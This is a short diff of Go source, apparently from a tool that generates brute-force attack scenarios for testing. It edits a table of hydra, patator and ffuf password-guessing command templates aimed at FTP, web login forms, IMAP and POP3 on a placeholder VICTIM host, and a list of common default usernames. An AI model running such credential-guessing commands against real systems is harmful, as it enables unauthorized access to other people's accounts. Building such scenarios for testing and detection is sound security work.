@@ -34,7 +34,7 @@ func bruteForces() []Scenario {
 		row("patator-ftp", "ftp", "patator ftp_login host=VICTIM user=USER password=FILE0 0=WORDS -t TASKS", nil),
 		row("hydra-form", "web", "hydra -I -t TASKS -l USER -P WORDS VICTIM http-post-form "+form, web),
 		row("hydra-get", "web", "hydra -I -t TASKS -l USER -P WORDS VICTIM http-get-form "+form, web),
-		row("patator-form", "web", "patator http_fuzz url=http://VICTIM/login method=POST body='user=USER&password=FILE0' 0=WORDS -t TASKS", web),
+		row("patator-form", "web", "patator http_fuzz resolve=VICTIM:VICTIM url=http://VICTIM/login method=POST body='user=USER&password=FILE0' 0=WORDS -t TASKS", web),
 		row("ffuf-form", "web", "ffuf -s -t TASKS -p 0.2 -w WORDS -u http://VICTIM/login -X POST -H 'Content-Type: application/x-www-form-urlencoded' -d 'user=USER&password=FUZZ' -fr Wrong", web),
 		row("hydra-imap", "mail", "hydra -I -t TASKS -l USER -P WORDS imap://VICTIM", nil),
 		row("hydra-pop3", "mail", "hydra -I -t TASKS -l USER -P WORDS pop3://VICTIM", nil),
@@ -68,7 +68,7 @@ func guess(ctx context.Context, r *Run, service, line string) error {
 		return err
 	}
 	names := filepath.Join(a.Dir, "names.txt")
-	list := "root test guest oracle ubuntu git www ftp info user " + strings.Repeat("", 0)
+	list := "root test guest oracle ubuntu git www ftp info user "
 	for _, u := range Users {
 		list += u.Name + " "
 	}
